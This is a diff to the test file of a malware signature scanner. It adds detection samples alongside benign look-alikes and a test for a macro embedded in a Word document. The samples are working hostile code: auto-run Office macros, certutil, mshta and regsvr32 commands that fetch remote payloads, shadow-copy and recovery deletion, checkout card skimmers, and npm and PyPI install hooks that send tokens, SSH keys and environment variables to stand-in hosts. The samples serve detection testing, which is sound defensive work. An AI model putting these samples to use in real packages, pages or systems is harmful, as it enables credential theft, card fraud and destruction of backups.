@@ -8,6 +8,7 @@ import * as path from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import * as zlib from "node:zlib";
 import { tar, zip } from "../support/archives";
+import * as F from "../unit/containers-carriers-fixtures";
 import { EICAR, ROOT, json, ring3, ring3Async, tempDir, write, type Json } from "./helpers";
 
 /** PE/ELF stand-ins: the magic, zero padding, then the given parts. No code, nothing runnable. */
@@ -213,6 +214,103 @@ const SAMPLES: Record<string, { ids: string[]; data: string | Buffer }> = {
     data: elf(z("github.com/bishopfox/sliver/protobuf/sliverpb"), z("github.com/bishopfox/sliver/implant/sliver/transports")),
   },
   "tools/mssecsvc.exe": { ids: ["ring3.tool.wannacry"], data: pe(z("WNcry@2ol7"), z("tasksche.exe"), z("icacls . /grant Everyone:F /T /C /Q")) },
+
+  // Office macros (issue 10): VBA source as the OLE2 reader gives it, or as an exported module.
+  "office/Module1.bas": {
+    ids: ["ring3.office.macro_autorun_launcher"],
+    data: 'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n    Shell "cmd.exe /c echo ring3 macro test", vbHide\r\nEnd Sub\r\n',
+  },
+  "office/ThisWorkbook.cls": {
+    ids: ["ring3.office.macro_autorun_launcher"],
+    data:
+      'Attribute VB_Name = "ThisWorkbook"\r\nPrivate Sub Workbook_Open()\r\n    Set o = CreateObject("WScr" & "ipt.Shell")\r\n' +
+      '    o.Run "powershell -c Write-Output ring3", 0\r\nEnd Sub\r\n',
+  },
+  "office/ThisDocument.cls": {
+    ids: ["ring3.office.macro_autorun_launcher"],
+    data: 'Attribute VB_Name = "ThisDocument"\r\nPrivate Sub Document_Open()\r\n    CreateObject(StrReverse("llehS.tpircSW")).Run "calc"\r\nEnd Sub\r\n',
+  },
+
+  // Windows system programs abused (LOLBAS) and recovery removal.
+  "lolbin/get.bat": {
+    ids: ["ring3.lolbin.certutil_download_decode"],
+    data: "certutil.exe -urlcache -split -f http://203.0.113.7/p.txt %TEMP%\\p.txt\r\ncertutil -decode %TEMP%\\p.txt %TEMP%\\p.exe\r\n",
+  },
+  "lolbin/decode.cmd": { ids: ["ring3.lolbin.certutil_download_decode"], data: "CertUtil /decode \"%APPDATA%\\u.b64\" \"%APPDATA%\\u.dll\"\r\n" },
+  "lolbin/run.cmd": {
+    ids: ["ring3.lolbin.mshta_rundll32_script"],
+    data: 'mshta vbscript:Close(Execute("GetObject(""script:https://203.0.113.7/p.sct"")"))\r\n',
+  },
+  "lolbin/poweliks.reg": {
+    ids: ["ring3.lolbin.mshta_rundll32_script"],
+    data: 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n' +
+      '"x"="rundll32.exe javascript:\\"\\\\..\\\\mshtml,RunHTMLApplication \\";document.write();GetObject(\\"script:http://203.0.113.7/x\\")"\r\n',
+  },
+  "lolbin/squiblydoo.bat": { ids: ["ring3.lolbin.regsvr32_remote_scriptlet"], data: "regsvr32 /s /n /u /i:http://203.0.113.7/file.sct scrobj.dll\r\n" },
+  "lolbin/wipe.bat": {
+    ids: ["ring3.lolbin.inhibit_recovery"],
+    data:
+      "cmd.exe /c vssadmin delete shadows /all /quiet & wmic shadowcopy delete & bcdedit /set {default} bootstatuspolicy ignoreallfailures & " +
+      "bcdedit /set {default} recoveryenabled no & wbadmin delete catalog -quiet\r\n",
+  },
+  "lolbin/locker.exe": { ids: ["ring3.lolbin.inhibit_recovery"], data: pe(wide("vssadmin.exe Delete Shadows /All /Quiet")) },
+  // Casing and quoting variants: cmd.exe and the programs read switches in any case.
+  "lolbin/UPDATE.CMD": { ids: ["ring3.lolbin.mshta_rundll32_script"], data: '"C:\\Windows\\System32\\MSHTA.EXE" "https://203.0.113.7/a.hta"\r\n' },
+  "lolbin/cleanup.cmd": { ids: ["ring3.lolbin.inhibit_recovery"], data: "VSSADMIN.EXE Delete Shadows /For=C: /All\r\n" },
+  "lolbin/shadows.ps1": { ids: ["ring3.lolbin.inhibit_recovery"], data: "Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }\r\n" },
+
+  // JavaScript card skimmers.
+  "skim/stats.js": {
+    ids: ["ring3.skimmer.checkout_harvester"],
+    data:
+      '(function () {\n  if (/onepage|checkout|onestep/.test(window.location)) {\n    document.addEventListener("submit", function () {\n' +
+      '      var d = {};\n      var f = document.querySelectorAll("input, select, textarea");\n' +
+      "      for (var i = 0; i < f.length; i++) d[f[i].name] = f[i].value;\n      var img = new Image();\n" +
+      '      img.src = "https://cdn-stats.example.invalid/i.gif?d=" + btoa(JSON.stringify(d));\n    });\n  }\n})();\n',
+  },
+  "skim/modernizr-ext.js": {
+    ids: ["ring3.skimmer.payment_form_serializer"],
+    data:
+      'window.onload = function () {\n  jQuery("#submitButton").bind("mouseup touchend", function () {\n    var n = {};\n' +
+      '    jQuery("#paymentForm").serializeArray().map(function (a) { n[a.name] = a.value; });\n' +
+      '    setTimeout(function () { jQuery.ajax({ type: "POST", url: "https://collect.example.invalid/gateway/api/", data: JSON.stringify(n) }); }, 500);\n  });\n};\n',
+  },
+
+  // Install-time credential theft (npm, PyPI).
+  "npm/hook-npmrc/package.json": {
+    ids: ["ring3.supplychain.install_hook_credential_exfil"],
+    data: '{\n  "name": "eslint-config-fancy",\n  "version": "1.0.0",\n  "scripts": {\n    "preinstall": "curl -s -d @$HOME/.npmrc https://collect.example.invalid/n"\n  }\n}\n',
+  },
+  "npm/hook-env/package.json": {
+    ids: ["ring3.supplychain.install_hook_credential_exfil"],
+    data:
+      '{\n  "name": "colors-fancy",\n  "scripts": {\n    "postinstall": "node -e \\"require(\'https\').get(\'https://collect.example.invalid/?d=\'+' +
+      "Buffer.from(JSON.stringify(process.env)).toString('base64'))\\\"\"\n  }\n}\n",
+  },
+  "npm/steal/lib/build.js": {
+    ids: ["ring3.supplychain.js_credential_stealer"],
+    data:
+      'const os = require("os"), fs = require("fs"), path = require("path"), https = require("https");\nconst home = os.homedir();\n' +
+      'const read = (p) => { try { return fs.readFileSync(path.join(home, p), "utf8"); } catch { return ""; } };\n' +
+      'const token = (/_authToken=(.*)/.exec(read(".npmrc")) || [])[1];\n' +
+      'const loot = { token, ssh: read(".ssh/id_rsa"), aws: read(".aws/credentials") };\n' +
+      'const req = https.request({ hostname: "collect.example.invalid", method: "POST", path: "/k" });\nreq.end(JSON.stringify(loot));\n',
+  },
+  "pypi/reqeusts/setup.py": {
+    ids: ["ring3.supplychain.setup_py_credential_exfil"],
+    data:
+      "import json, os, urllib.request\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n" +
+      "class PostInstall(install):\n    def run(self):\n        install.run(self)\n" +
+      '        urllib.request.urlopen("https://collect.example.invalid/c", json.dumps(dict(os.environ)).encode())\n\n' +
+      'setup(name="reqeusts", version="2.0.0", cmdclass={"install": PostInstall})\n',
+  },
+  "pypi/dateutils/setup.py": {
+    ids: ["ring3.supplychain.setup_py_credential_exfil"],
+    data:
+      "import os, requests\nfrom setuptools import setup, find_packages\n\n" +
+      'key = open(os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")).read()\n' +
+      'requests.post("https://collect.example.invalid/k", data={"k": key})\nsetup(name="python3-dateutils", packages=find_packages())\n',
+  },
 };
 
 /** Benign files that name the same things the way manuals, READMEs and application code do. */
@@ -240,6 +338,29 @@ const BENIGN: Record<string, string> = {
   "benign/notes.txt": "Mimikatz by gentilkiwi dumps credentials with sekurlsa::logonpasswords; Cobalt Strike beacons print '%s as %s\\%s: %d'.\n",
   "benign/server.py": "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.bind(('127.0.0.1', 8080))\ns.listen()\n",
   "benign/miner-docs.txt": 'XMRig reads config.json: { "donate-level": 1, "pools": [] } - see https://xmrig.com/docs/miner/config\n',
+  // Look-alikes of issue 10's rules: a formatting AutoOpen, a macro that launches only on a click,
+  // an admin script that lists shadow copies, certutil hashing, a local HTML application, a
+  // checkout page's own validation, an analytics beacon, a native module's install hooks, a
+  // registry client reading .npmrc, a setup.py that reads build flags and downloads a tarball.
+  "benign/office/FormatDoc.bas":
+    'Attribute VB_Name = "FormatDoc"\r\nSub AutoOpen()\r\n    ActiveDocument.Content.Font.Name = "Calibri"\r\n' +
+    "    Selection.ParagraphFormat.Alignment = wdAlignParagraphJustify\r\nEnd Sub\r\n",
+  "benign/office/Tools.bas": 'Attribute VB_Name = "Tools"\r\nSub OpenReport()\r\n    Shell "notepad.exe report.txt", vbNormalFocus\r\nEnd Sub\r\n',
+  "benign/admin/list-shadows.cmd": "@echo off\r\nvssadmin list shadows /for=C:\r\nvssadmin list shadowstorage\r\nwmic shadowcopy list brief\r\n",
+  "benign/admin/hash.cmd": "certutil -hashfile setup.exe SHA256\r\ncertutil -urlcache * delete\r\nstart mshta.exe \"%~dp0help.hta\"\r\n",
+  "benign/shop/checkout-validate.js":
+    'if (window.location.pathname.indexOf("/checkout") === 0) {\n  var fields = document.querySelectorAll("input[required]");\n' +
+    '  form.addEventListener("submit", function (e) {\n    for (var i = 0; i < fields.length; i++) if (!fields[i].value) e.preventDefault();\n' +
+    '    fetch("/checkout/validate", { method: "POST", body: JSON.stringify({ cardnumber: cardnumber.value.length }) });\n  });\n}\n',
+  "benign/shop/beacon.js": 'var img = new Image();\nimg.src = "https://stats.example.invalid/p.gif?u=" + encodeURIComponent(location.href);\n',
+  "benign/native/package.json": '{\n  "name": "native-addon",\n  "scripts": {\n    "install": "node-gyp rebuild",\n    "postinstall": "node scripts/check-env.js"\n  }\n}\n',
+  "benign/registry-client.js":
+    'const os = require("os"), path = require("path"), fs = require("fs"), https = require("https");\n' +
+    'const rc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");\nconst token = /_authToken=(.*)/.exec(rc)[1];\n' +
+    'https.get({ hostname: "registry.npmjs.org", path: "/-/whoami", headers: { authorization: "Bearer " + token } });\n',
+  "benign/setup.py":
+    "import os, urllib.request\nfrom setuptools import setup\n\ncflags = os.environ.get('CFLAGS', '')\n" +
+    "data = urllib.request.urlopen('https://downloads.example.invalid/lib-1.0.tar.gz').read()\nsetup(name='native', version='1.0')\n",
   // A rule set quoting indicators is not what it describes (the guard rule).
   "benign/rules/codecov.yar":
     'rule Codecov {\n    strings:\n        $a = "$(git remote -v)<<<<<< ENV $(env)"\n        $b = "webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7"\n    condition:\n        any of them\n}\n',
@@ -338,6 +459,29 @@ describe("the bundled set inside archives", () => {
       expect(missing).toEqual([]);
       for (const f of ["samples.zip", "nested.zip"]) expect(out.results.find((r: Json) => path.basename(r.path) === f && !r.members)?.verdict).toBe("detected");
       expect(out.summary).toMatchObject({ files: 2, detected: 2, partial: 0, error: 0 });
+    } finally {
+      fs.rmSync(d, { recursive: true, force: true });
+    }
+  });
+});
+
+describe("Office macros inside documents", () => {
+  it("finds the auto-run launcher in a .doc's VBA project (a member), and nothing in a formatting AutoOpen", () => {
+    const d = tempDir("ring3-sigs-doc-");
+    try {
+      const doc = (source: string) =>
+        F.cfb([{ path: "WordDocument", data: new Uint8Array(600) }, ...F.vbaProject("Macros/", [{ name: "ThisDocument", source }])]);
+      fs.writeFileSync(path.join(d, "invoice.doc"), doc(SAMPLES["office/ThisDocument.cls"]!.data as string));
+      fs.writeFileSync(path.join(d, "letter.doc"), doc(BENIGN["benign/office/FormatDoc.bas"]!));
+      const run = ring3(["scan", "--format", "json", "--pack", "ring3", d], { timeout: 300_000 });
+      expect(run.code, run.stderr).toBe(1);
+      const out = json(run);
+      const hit = out.results.find((r: Json) => path.basename(r.path) === "invoice.doc" && JSON.stringify(r.members ?? []) === '["Macros/VBA/ThisDocument.vba"]');
+      expect(hit?.verdict).toBe("detected");
+      expect(hit.findings.filter((f: Json) => f.engine === "yara").map((f: Json) => f.id)).toEqual(["ring3.office.macro_autorun_launcher"]);
+      const detected = out.results.filter((r: Json) => r.verdict === "detected").map((r: Json) => path.basename(r.path));
+      expect(detected).not.toContain("letter.doc");
+      expect(out.summary).toMatchObject({ files: 2, detected: 1, partial: 0, error: 0 });
     } finally {
       fs.rmSync(d, { recursive: true, force: true });
     }
